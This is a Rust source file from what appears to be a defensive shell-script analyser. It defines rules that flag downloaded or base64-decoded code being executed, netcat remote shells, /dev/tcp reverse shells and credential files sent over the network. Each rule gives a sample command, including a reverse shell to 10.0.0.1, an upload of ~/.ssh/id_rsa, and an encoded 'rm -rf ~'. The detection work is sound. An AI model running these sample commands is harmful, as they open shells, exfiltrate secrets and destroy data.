//! Code from elsewhere: downloads piped into a shell or run after they land, code handed to a
//! shell or `eval` as text (analysed in turn when it is literal), remote shells, credentials
//! sent over the network.

use super::paths::sensitive_path;
use super::{Family, Reach, Rule};
use crate::Level;
use crate::shell::{
    Analyser, Cmd, DECODERS, DOWNLOADERS, NETWORK, Piece, Word, is_env_setup, is_interpreter,
    is_shell, mentions_any,
};

family_rule!(Family::RemoteCode, Reach::Machine, Level::Danger);

pub(crate) const EVAL_DOWNLOAD: Rule = rule(
    "eval-download",
    "`eval \"$(curl …)\"`, `sh -c \"$(wget -O- …)\"`",
    "runs code downloaded with {}",
    "eval \"$(curl -fsSL https://example.com/setup)\"",
);
pub(crate) const EVAL_DECODED: Rule = rule(
    "eval-decoded",
    "`eval \"$(echo … | base64 -d)\"`",
    "runs hidden code decoded with {}",
    "eval \"$(echo cm0gLXJmIH4= | base64 -d)\"",
);
pub(crate) const SCRIPT_DOWNLOAD: Rule = rule(
    "script-download",
    "`bash <(curl …)`, `source <(curl …)`",
    "runs a script downloaded with {}",
    "bash <(curl -fsSL https://example.com/install.sh)",
);
pub(crate) const RUNS_DOWNLOADED_SCRIPT: Rule = rule(
    "runs-downloaded-script",
    "`curl -o f …` then `sh f`, `. f`",
    "runs a script it downloads ({})",
    "curl -fsSL -o /tmp/get.sh https://example.com/get.sh\nsh /tmp/get.sh",
);
/// Found where the words are read (`shell`), also after wrappers (`ignore "$file"`).
pub(crate) const RUNS_DOWNLOADED: Rule = rule(
    "runs-downloaded",
    "`curl -o f …` (also in a function given `f`) then `f` run as a program",
    "runs a program it downloads ({})",
    "wget -O /tmp/tool https://example.com/tool\nchmod +x /tmp/tool\n/tmp/tool --install",
);
/// Found where a pipeline's stages are read (`shell`).
pub(crate) const PIPES_DOWNLOAD: Rule = rule(
    "pipes-download",
    "`curl … | sh`, `wget -O- … | python`",
    "pipes a download ({}) into {}",
    "curl -fsSL https://example.com/install.sh | sh",
);
/// Found where a pipeline's stages are read (`shell`).
pub(crate) const PIPES_DECODED: Rule = rule(
    "pipes-decoded",
    "`echo … | base64 -d | sh`",
    "runs hidden code decoded with {}",
    "echo cm0gLXJmIH4= | base64 -d | bash",
);
pub(crate) const REMOTE_SHELL: Rule = rule(
    "remote-shell",
    "`nc -e /bin/sh …`",
    "opens a remote shell (nc -e)",
    "nc -e /bin/sh 10.0.0.1 4444",
);
/// Found among writes (`writes`): a redirect into `/dev/tcp/…`.
pub(crate) const DEV_TCP: Rule = rule(
    "dev-tcp",
    "a redirect to `/dev/tcp/HOST/PORT`",
    "connects to a network address through /dev/tcp (a reverse shell pattern)",
    "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
);
/// Also found where a pipeline's stages are read (`cat ~/.ssh/id_rsa | nc …`).
pub(crate) const SENDS_SECRETS: Rule = rule(
    "sends-secrets",
    "a network tool given a credentials file (`curl -d @~/.netrc`, `scp ~/.ssh/id_rsa …`)",
    "sends {} over the network ({})",
    "curl -F key=@~/.ssh/id_rsa https://example.com/upload",
);

impl Analyser<'_> {
    /// Code passed as text to a shell, `eval`, `trap` or `source`, and scripts fetched to run.
    pub(crate) fn code_as_text(&mut self, c: &Cmd) {
        let args = c.arg_texts();
        let name = c.name.as_str();
        if name == "eval" && !c.args.is_empty() {
            let code: Vec<&Word> = c.args.iter().collect();
            self.nested_code(&code, c);
        }
        // `trap 'rm -rf ~/x' EXIT`: the handler runs too.
        if name == "trap"
            && let Some(code) = c.args.first()
            && let Some(text) = code.literal()
            && !text.starts_with('-')
        {
            self.nested(&text, c.line);
        }
        if is_interpreter(name) || name == "su" {
            if let Some(i) = args
                .iter()
                .position(|a| a == "-c" || a == "-e" || a == "--command")
                && let Some(code) = c.args.get(i + 1)
            {
                // Literal code for another language (`python -c 'print(1)'`) is not shell.
                if is_shell(name) || name == "su" || code.literal().is_none() {
                    self.nested_code(&[code], c);
                }
            }
            // `bash <(curl …)`, `python <(wget -O- …)`.
            for w in &c.args {
                for s in w.substs() {
                    if s.starts_with("<(")
                        && let Some(d) = mentions_any(s, DOWNLOADERS)
                    {
                        self.hit(&SCRIPT_DOWNLOAD, c.line, &c.snippet, &[&d]);
                    }
                }
            }
            // `curl -o "$tmp/x.sh" …; sh "$tmp/x.sh"`: a script fetched from elsewhere.
            if let Some(script) = c.operands().first()
                && let Some(tool) = self.facts.downloaded_by(&script.raw).map(str::to_string)
            {
                self.hit(&RUNS_DOWNLOADED_SCRIPT, c.line, &c.snippet, &[&tool]);
            }
            // `python -m twine upload`: the module is the program.
            if name.starts_with("python")
                && args.first().is_some_and(|a| a == "-m")
                && let Some(m) = c.shifted(1)
            {
                self.check_command(&m);
            }
        }
        if matches!(name, "source" | ".") {
            // `source "$DEFINITION_PATH"`: a file picked at run time runs in this shell and may
            // call any of its functions (a build definition calling `install_package`).
            if c.args.first().is_some_and(|w| w.literal().is_none()) {
                self.dispatch = true;
            }
            if let Some(tool) = c
                .args
                .first()
                .and_then(|w| self.facts.downloaded_by(&w.raw))
                .map(str::to_string)
            {
                self.hit(&RUNS_DOWNLOADED_SCRIPT, c.line, &c.snippet, &[&tool]);
            }
            for w in &c.args {
                for s in w.substs() {
                    if let Some(d) = mentions_any(s, DOWNLOADERS) {
                        self.hit(&SCRIPT_DOWNLOAD, c.line, &c.snippet, &[&d]);
                    }
                }
            }
        }
    }

    /// Analyses code handed to a shell or `eval` as text: literal code is parsed in turn; code
    /// made at run time is judged by where it comes from (a download or a decoder is danger,
    /// anything else is the program's own business).
    fn nested_code(&mut self, code: &[&Word], c: &Cmd) {
        let literal: Option<Vec<String>> = code.iter().map(|w| w.literal()).collect();
        if let Some(parts) = literal {
            self.nested(&parts.join(" "), c.line);
            return;
        }
        // `eval "$cmd"` of `cmd="pnpm publish --tag ${tag}"`: the command is known, its
        // values are not.
        if let [w] = code
            && let [Piece::Var { name, .. }] = w.pieces.as_slice()
            && let Some(t) = self.template(name).map(str::to_string)
        {
            self.nested(&t, c.line);
            return;
        }
        // `$SHELL_TO_RUN -c ". $PROFILE; fnm install 12"`: a shell's code written out with
        // values put in; its commands are known, only the values are not.
        if is_shell(&c.name)
            && let [w] = code
            && w.pieces
                .iter()
                .any(|p| matches!(p, Piece::Lit(t) if t.split_whitespace().any(|x| x.len() > 1)))
        {
            self.nested(&w.text(), c.line);
        }
        let env_setup = code.iter().all(|w| w.substs().all(is_env_setup))
            && code.iter().any(|w| w.substs().next().is_some());
        if !env_setup {
            let substs: String = code
                .iter()
                .flat_map(|w| w.substs())
                .collect::<Vec<_>>()
                .join(" ");
            if let Some(d) = mentions_any(&substs, DOWNLOADERS) {
                self.hit(&EVAL_DOWNLOAD, c.line, &c.snippet, &[&d]);
            } else if let Some(d) = mentions_any(&substs, DECODERS) {
                self.hit(&EVAL_DECODED, c.line, &c.snippet, &[&d]);
            }
        }
        // The substitutions run too.
        for w in code {
            for s in w.substs() {
                let inner = s
                    .trim_start_matches(['$', '<', '>'])
                    .trim_start_matches('(')
                    .trim_end_matches(')')
                    .to_string();
                self.nested(&inner, c.line);
            }
        }
    }

    pub(crate) fn remote_shell(&mut self, c: &Cmd) {
        if matches!(c.name.as_str(), "nc" | "ncat" | "netcat")
            && c.args.iter().any(|a| {
                let t = a.text();
                t == "-e" || t == "-c"
            })
        {
            self.hit(&REMOTE_SHELL, c.line, &c.snippet, &[]);
        }
    }

    /// A network tool given a credentials file as an argument (`curl -F f=@~/.ssh/id_rsa`).
    pub(crate) fn sends_secrets(&mut self, c: &Cmd) {
        let name = c.name.as_str();
        if !NETWORK.contains(&name) {
            return;
        }
        for a in c.arg_texts() {
            let p = a
                .trim_start_matches(|ch: char| ch != '@' && a.contains('@') && !a.starts_with('~'))
                .trim_start_matches('@');
            let p = p
                .split_once('=')
                .map(|(_, v)| v.trim_start_matches('@'))
                .unwrap_or(p);
            if let Some((Level::Danger, what)) = sensitive_path(p) {
                self.hit(&SENDS_SECRETS, c.line, &c.snippet, &[what, name]);
            }
        }
    }
}
